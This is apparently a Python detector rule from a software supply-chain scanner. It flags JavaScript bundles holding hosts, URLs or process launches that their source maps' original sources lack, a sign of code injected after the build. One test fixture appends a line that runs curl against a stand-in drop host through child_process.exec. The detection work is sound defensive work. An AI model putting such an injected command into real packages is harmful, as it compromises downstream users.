"""This update brings code that its own source map knows nothing of.

## What it detects
A file of JavaScript beside its source map, with the sources in it (`sourcesContent`): the file names a host, starts a
process or evaluates a text that is new to the line, and that stands in none of the sources. The line's earlier release
had such a map, and no such difference.

## Why it matters
A bundler writes the map from what it bundles. What is put into the bundle afterwards, on the way from the build to the
registry, is missing there.

## What it misses
Packages without maps, or with maps that do not carry their sources; payloads that were in the sources already; values
that the build itself puts in, where the line always had such.

## References
- Source Map Specification (ECMA-426), `sourcesContent`
- MITRE ATT&CK T1195.002, Compromise Software Supply Chain
"""

import re
from collections.abc import Iterator
from functools import cached_property

from lazaretto.core.facts import Kind
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import Tally, package_json
from lazaretto.core.update import ArtifactView, Pair, Update

CARD = Card(
    id="source-map-differs",
    title="Code missing from its own source map",
    variants={"missing": "A bundle names or starts what none of the sources in its map does."},
    group="shape",
    why="What the map does not know was put in after the build.",
    attack=("T1195.002",),
)

MAX_MAP = 32 * 1024 * 1024
"""Largest source map that is searched, in bytes."""

FEW = 50
"""Words that are searched for one by one; beyond it the names that the sources have are taken out of them first."""

MAX_MISSING = 50
"""Most values of one file that are told to be missing."""

_NAME = re.compile(rb"[\w.:-]+")
_KINDS = (Kind.NET_CONNECT, Kind.LITERAL_URL, Kind.LITERAL_DOMAIN, Kind.LITERAL_IP, Kind.PROCESS_SPAWN)
_SHORTEST = 6


def _map(source: str) -> str:
    return '{"version":3,"sources":["../src/a.ts"],"names":[],"mappings":"AAAA","sourcesContent":["' + source + '"]}\n'


_BEFORE = {
    "package.json": package_json("1.0.0"),
    "index.js": "exports.a=a=>fetch('https://api.example.invalid/'+a);\n",
    "index.js.map": _map("export const a = (a: string) => fetch('https://api.example.invalid/' + a);"),
}
_ADDED = "require('child_process').exec('curl https://drop.example.invalid/x');\n"
_SOURCE = "export const a = (a: string) => fetch('https://api.example.invalid/v2/' + a);"

EXAMPLES = (
    Example(
        title="the bundle starts a process, and its map is as before",
        before=_BEFORE,
        after={**_BEFORE, "package.json": package_json("1.0.1"), "index.js": _BEFORE["index.js"] + _ADDED},
        expect="missing",
        at="index.js:2",
    ),
    Example(
        title="bundle and map change alike",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "exports.a=a=>fetch('https://api.example.invalid/v2/'+a);\n",
            "index.js.map": _map(_SOURCE),
        },
    ),
    Example(
        title="the first map of a bundle",
        before={"package.json": package_json("1.0.0"), "index.js": _BEFORE["index.js"]},
        after={**_BEFORE, "package.json": package_json("1.0.1"), "index.js": _BEFORE["index.js"] + _ADDED},
    ),
    Example(
        title="a map without sources",
        before={**_BEFORE, "index.js.map": '{"version":3,"sources":["a.ts"],"mappings":"AAAA"}\n'},
        after={
            "package.json": package_json("1.0.1"),
            "index.js": _BEFORE["index.js"] + _ADDED,
            "index.js.map": '{"version":3,"sources":["a.ts"],"mappings":"AAAA"}\n',
        },
    ),
)

_MESSAGES = {"missing": "brings code that its own source map knows nothing of"}


def detect(update: Update) -> Iterator[Finding]:
    """Yield at most one finding; none at first contact."""
    tally = Tally(CARD)
    for pair in update.pairs:
        asked: dict[str, _Asked] = {}
        differed: dict[str, bool] = {}
        for placed in pair.gained(*_KINDS) if pair.before else ():
            path = placed.path
            if path not in pair.changes or differed.get(path):
                continue
            if path not in asked:
                asked[path] = _Asked(_sources(pair.after, path))
            if not asked[path].is_missing(placed.fact.value):
                continue
            if path not in differed:
                differed[path] = _used_to_differ(pair, path)
            if not differed[path]:
                tally.add("missing", pair, placed)
    yield from tally.findings(_MESSAGES)


class _Asked:
    """What was asked of the sources that the map of one file carries; None: it carries none."""

    def __init__(self, sources: bytes | None) -> None:
        self._sources = sources
        self._known: dict[str | None, bool] = {}
        self._searched = 0
        self.missing = 0

    @cached_property
    def _names(self) -> frozenset[bytes]:
        return frozenset(_NAME.findall(self._sources or b""))

    def is_missing(self, value: str | None) -> bool:
        """Whether a value stands in none of the sources; no more than ``MAX_MISSING`` are said to be missing."""
        if self._sources is None or self.missing >= MAX_MISSING:
            return False
        if value not in self._known:
            self._known[value] = any(not self._has(word.encode()) for word in _words(value or ""))
            self.missing += self._known[value]
        return self._known[value]

    def _has(self, word: bytes) -> bool:
        self._searched += 1
        if self._searched > FEW and word in self._names:
            return True
        return word in (self._sources or b"")


def _words(value: str) -> Iterator[str]:
    """Yield the parts of a value that a build leaves as they are: hosts, words of a command."""
    for part in value.replace("'", " ").replace('"', " ").replace("\\", " ").split():
        word = part.partition("://")[2].partition("/")[0] if "://" in part else part
        if len(word) >= _SHORTEST and word.isascii() and "*" not in word and "$" not in word:
            yield word


def _sources(view: ArtifactView, path: str) -> bytes | None:
    """Return the map of a file if it carries its sources."""
    blob = view.tree.get(f"{path}.map")
    if blob is None or blob.size > MAX_MAP or b'"sourcesContent"' not in blob.data:
        return None
    return blob.data


def _used_to_differ(pair: Pair, path: str) -> bool:
    """Whether the line's earlier release had no such map, or such a difference already, as far as it was read."""
    before = pair.before
    sources = _sources(before, path) if before is not None else None
    if before is None or sources is None:
        return True
    known, asked = before.facts.get(path), _Asked(sources)
    return known is not None and any(asked.is_missing(fact.value) for fact in known.facts if fact.kind in _KINDS)
